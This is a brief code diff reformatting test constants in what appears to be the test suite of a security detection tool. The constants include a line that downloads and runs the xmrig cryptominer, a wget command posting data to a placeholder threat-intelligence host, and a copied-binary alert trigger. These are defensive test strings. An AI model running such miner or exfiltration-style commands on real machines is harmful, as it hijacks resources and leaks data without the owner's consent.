@@ -173,9 +173,7 @@ chmod +x xmrig && ./xmrig
 true
 """
 
-TI_DOMAIN = (
-    'wget -q -O /dev/null --post-data "" "http://ti-test.mamori.invalid/?SendingData"\n'
-)
+TI_DOMAIN = 'wget -q -O /dev/null --post-data "" "http://ti-test.mamori.invalid/?SendingData"\n'
 
 SEED = "cp /bin/echo /tmp/mamori-test-alert && /tmp/mamori-test-alert hi"
 
